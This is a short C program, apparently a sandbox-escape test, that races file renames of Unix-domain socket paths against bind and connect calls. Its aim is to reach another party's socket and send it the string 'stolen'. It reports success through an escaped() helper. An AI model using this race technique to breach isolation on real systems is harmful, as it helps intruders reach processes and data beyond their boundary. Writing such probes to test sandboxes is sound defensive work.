/* Makes the file of a socket and removes it, and connects to sockets of somebody else that may have got its number; makes one
 * while another thread puts somebody else's socket in its place. Argument: the socket of somebody outside. */
#include "attack.h"
#include <pthread.h>
#include <sys/un.h>

static const char *theirs;

static struct sockaddr_un called(const char *name) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path, name);
    return address;
}

static void *swap(void *unused) {
    for (;;) {
        rename("mine", "away");
        rename(theirs, "mine");
        rename("mine", theirs);
        unlink("away");
    }
    return unused;
}

static void reach(const char *name) {
    struct sockaddr_un to = called(name);
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(s, (void *)&to, sizeof to) == 0 && send(s, "stolen", 6, MSG_NOSIGNAL) == 6) escaped(name);
    close(s);
}

int main(int argc, char **argv) {
    theirs = argv[1];
    pthread_t thread;
    pthread_create(&thread, NULL, swap, NULL);
    double until = now() + 3;
    struct sockaddr_un mine = called("mine");
    while (now() < until) {
        int own = socket(AF_UNIX, SOCK_STREAM, 0);
        bind(own, (void *)&mine, sizeof mine);
        reach("mine");
        reach(theirs);
        close(own);
    }
    return argc != 2;
}
